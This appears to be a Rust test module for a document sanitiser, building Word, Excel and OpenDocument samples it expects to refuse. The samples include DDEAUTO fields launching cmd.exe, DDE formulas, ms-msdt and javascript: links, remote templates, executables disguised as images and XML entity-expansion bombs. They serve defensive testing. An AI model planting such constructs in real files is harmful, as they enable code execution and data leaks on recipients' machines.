//! Office documents.

use alongside_files::{Kind, Refused};

use crate::made::*;
use crate::{Case, Cases};

/// A Word document with this as its text.
pub fn saying(text: &str) -> Vec<u8> {
    word_with(&[part("word/more.xml", format!("<w:document>{text}</w:document>"))])
}

pub fn sheet(text: &str) -> Vec<u8> {
    excel_with(&[part("xl/worksheets/sheet1.xml", format!("<worksheet>{text}</worksheet>"))])
}

pub fn open_text(text: &str) -> Vec<u8> {
    open_document(OPEN_TEXT, &[part("Object 1/content.xml", format!("<office:document>{text}</office:document>"))])
}

pub fn that_run_or_fetch() -> Cases {
    let outside = |what, kind, target| Case::from((what, word_that_points(kind, target, true), Refused::ReachesOut));
    let fetches = |what, content| Case::from((what, content, Refused::ReachesOut));
    let runs = |what, content| Case::from((what, content, Refused::Macros));
    let field = |code: &str| saying(&format!("<w:fldChar/><w:instrText>{code}</w:instrText><w:fldChar/>"));
    vec![
        outside("a template of another machine", "attachedTemplate", "https://example.org/a.dotm"),
        outside("a template of a shared folder", "attachedTemplate", "file:///\\\\example.org\\a.dotm"),
        outside("a picture of another machine", "image", "http://example.org/a.png"),
        outside("a linked object", "oleObject", "file:///\\\\example.org\\a.xlsx"),
        outside("a frame of another page", "frame", "http://example.org/"),
        outside("a link that is a script", "hyperlink", "javascript:alert(1)"),
        outside("a link that holds a page", "hyperlink", "data:text/html,&lt;script&gt;x"),
        outside("a link that starts a program", "hyperlink", "ms-msdt:/id PCWDiagnostic"),
        outside("a link to a shared folder", "hyperlink", "file://example.org/share"),
        outside("a link written with numbers", "hyperlink", "&#106;avascript:alert(1)"),
        fetches("a picture outside that does not say so", word_that_points("image", "http://example.org/a", false)),
        fetches("a picture outside by numbers", word_that_points("image", "a\" TargetMode=\"&#69;xternal", false)),
        fetches("a field that takes in a picture", field("INCLUDEPICTURE \"http://example.org/a\"")),
        fetches("a field that takes in a document", field(" IncludeText \"\\\\\\\\example.org\\\\a\"")),
        fetches("a field that links", field("LINK Excel.Sheet.8 C:\\a.xls")),
        fetches("an object that is a link", saying("<o:OLEObject Type=\"Link\" ProgID=\"Excel.Sheet\"/>")),
        fetches("an old picture of another machine", saying("<v:imagedata src=\"http://example.org/a\"/>")),
        fetches("connections to a database", excel_with(&[part("xl/connections.xml", "<connections/>")])),
        fetches("a link to another workbook", excel_with(&[part("xl/externalLinks/a.xml", "<x:externalLink/>")])),
        fetches("a question to a page", excel_with(&[part("xl/queryTables/a.xml", "<queryTable/>")])),
        fetches("a question to anything", excel_with(&[part("customXml/item1.xml", "<DataMashup>AA==</DataMashup>")])),
        fetches("a formula that asks a page", sheet("<c><f>_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A1)</f></c>")),
        fetches("a formula that asks in pieces", sheet("<c><f>WEB<!-- a -->SERV<![CDATA[ICE]]>(A1)</f></c>")),
        fetches("a formula that shows a picture", sheet("<f>_xlfn.IMAGE(\"http://example.org/a\")</f>")),
        fetches(
            "an OpenDocument picture elsewhere",
            open_text("<draw:image xlink:href=\"https://example.org/a.png\"/>"),
        ),
        fetches("an OpenDocument picture by another prefix", open_text("<d:image x:href='//example.org/a.png'/>")),
        fetches("an OpenDocument section elsewhere", open_text("<text:section-source xlink:href=\"../a.odt\"/>")),
        fetches("an OpenDocument table elsewhere", open_text("<table:table-source xlink:href=\"file:///C:/a.ods\"/>")),
        fetches("an OpenDocument database", open_text("<form:connection-resource xlink:href=\"a\"/>")),
        fetches("an OpenDocument link that is a script", open_text("<text:a xlink:href=\"vbscript:x\">a</text:a>")),
        fetches("an OpenDocument formula that asks", open_text("<c table:formula=\"of:=WEBSERVICE([.A1])\"/>")),
        runs("a field that asks a program", field("DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"")),
        runs(
            "a field in pieces",
            saying("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r>"),
        ),
        runs("a field in an attribute", saying("<w:fldSimple w:instr=\" dde cmd\"/>")),
        runs("a field in numbers", field("QUOTE 68 68 69 65 85 84 79")),
        runs("a formula that asks a program", sheet("<f>cmd|&apos;/c calc&apos;!A0</f>")),
        runs("a name that asks a program", sheet("<definedName name=\"a\">MSEXCEL|'\\..\\calc'!A0</definedName>")),
        runs("a program behind a link of a workbook", sheet("<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/>")),
        runs("an OpenDocument that asks a program", open_text("<text:dde-connection office:dde-topic=\"a\"/>")),
        runs("an OpenDocument that runs on opening", open_text("<script:event-listener script:language=\"Basic\"/>")),
        runs("an OpenDocument script", open_text("<office:script>x</office:script>")),
        runs(
            "a drawing with a script in a document",
            word_with(&[part("word/media/a.svg", "<svg><script>x</script></svg>")]),
        ),
        runs("a drawing that runs on loading", word_with(&[part("word/media/a.emf", "<s:svg oNload='x'/>")])),
    ]
}

pub fn that_carry() -> Cases {
    let carries =
        |what, name: &str, content: &[u8]| Case::from((what, word_with(&[part(name, content)]), Refused::CarriesFile));
    let strange =
        |what, name: &str, content: &[u8]| Case::from((what, word_with(&[part(name, content)]), Refused::Unusual));
    let macros = word_with(&[part("word/vbaProject.bin", "x")]);
    let inside = |document: &[u8]| word_with(&[part("word/embeddings/a.xlsx", document)]);
    vec![
        ("another document taken in", word_that_points("aFChunk", "a.bin", false), Refused::CarriesFile).into(),
        carries("a tag that takes another document in", "word/a.xml", b"<w:altChunk r:id=\"r1\"/>"),
        carries("a page in a document", "word/afchunk.HTML", b"hello"),
        carries("a saved page in a document", "word/afchunk.mht", b"MIME-Version: 1.0"),
        carries("rich text in a document", "word/media/a.png", b"{\\rtf1\\object}"),
        carries("an object under the name of a picture", "word/media/a.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        carries("a program under the name of a picture", "word/media/a.jpeg", b"MZ\x90\0\x03"),
        carries("a PDF under the name of a picture", "word/media/a.gif", b"%PDF-1.7"),
        carries("an archive under the name of a picture", "word/media/a.gif", &zip(&[part("a.exe", "x")])),
        ("a workbook with macros in a document", inside(&macros), Refused::Macros).into(),
        ("a document in a document in a document", inside(&inside(&word_with(&[]))), Refused::CarriesFile).into(),
        strange("a photograph in a form that is not cleaned", "word/media/a.tiff", b"II*\0\x08\0\0\0"),
        strange("a photograph of an iPhone in a document", "word/media/a.heic", b"\0\0\0\x18ftypheic"),
    ]
}

pub fn that_swell() -> Cases {
    let strange =
        |what, content: &[u8]| Case::from((what, word_with(&[part("customXml/item1", content)]), Refused::Unusual));
    let with = |name: &str, content: &[u8]| word_with(&[part(name, content)]);
    let field = b"<w:fldSimple w:instr=\"DDEAUTO cmd\"/>";
    let utf_16: Vec<u8> = "<a/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let deep = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    let long = format!("<a b=\"{}\"/>", "c".repeat(20 << 20));
    let many = "<a/>".repeat(20 << 20);
    let wide = png_with(60_000, 60_000, &[]);
    let photograph = jpeg_with(9, 9, &[segment(0xfe, PLACE), vec![0xff; 9 << 20]]);
    let photographs: Vec<Part> = (0..11).map(|number| part(&format!("word/media/{number}.jpg"), &photograph)).collect();
    let too_many = Refused::TooManyPixels { megapixels: 50 };
    vec![
        strange("texts that grow without bounds", b"<!DOCTYPE a [<!ENTITY b \"ha\"><!ENTITY c \"&b;&b;\">]><a>&c;</a>"),
        strange("texts fetched from elsewhere", b"<!DOCTYPE a SYSTEM \"http://example.org/a.dtd\"><a/>"),
        strange("a text that is not said", b"<a>&unknown;</a>"),
        strange("a part in UTF-7", b"<?xml version=\"1.0\" encoding=\"UTF-7\"?><a/>"),
        strange("tags in tags without end", deep.as_bytes()),
        strange("a part in letters of two bytes", &utf_16),
        strange("a part after the mark of such letters", &join(&[b"\xff\xfe", &utf_16])),
        strange("a part in letters of a large old machine", b"\x4c\x6f\xa7\x94\x93"),
        ("a part with letters of nothing", with("word/a.xml", b"<a>\0</a>"), Refused::Unusual).into(),
        ("a field after many spaces", with("word/a", &join(&[&[b' '; 9_000], field])), Refused::Macros).into(),
        (
            "a field after a mark and spaces",
            with("a", &join(&[b"\xef\xbb\xbf", &[b' '; 9_000], field])),
            Refused::Macros,
        )
            .into(),
        ("a part that is no markup", with("word/a.xml", b"<a b=>"), Refused::Damaged).into(),
        ("a huge picture in a document", with("word/media/a.png", &wide), too_many).into(),
        ("a tag of 20 MB", with("word/a.xml", long.as_bytes()), Refused::Swollen).into(),
        ("20 million tags", with("word/a.xml", many.as_bytes()), Refused::Swollen).into(),
        ("photographs that swell together", word_with(&photographs), Kind::Word).into(),
        ("a picture of 95 MB", with("word/media/a.bmp", &vec![0; 95 << 20]), Kind::Word).into(),
        ("a photograph larger than a file", with("a.jpg", &join(&[&photograph, &photograph])), Refused::Swollen).into(),
    ]
}
